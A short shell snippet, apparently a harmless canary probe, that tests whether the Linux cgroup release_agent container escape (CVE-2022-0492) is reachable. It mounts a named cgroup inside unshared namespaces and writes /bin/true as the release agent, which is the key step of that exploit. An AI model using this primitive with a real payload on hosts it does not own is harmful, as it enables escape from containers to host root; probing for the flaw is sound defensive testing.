# CVE-2022-0492: a control-group hierarchy names a program that the host's root runs. It is only named here, never run.
attack='mount -t cgroup -o none,name=alcatraz-canary none group && echo /bin/true > group/release_agent'
mkdir -p group && { unshare -m sh -c "$attack" || unshare -rmC sh -c "$attack"; }
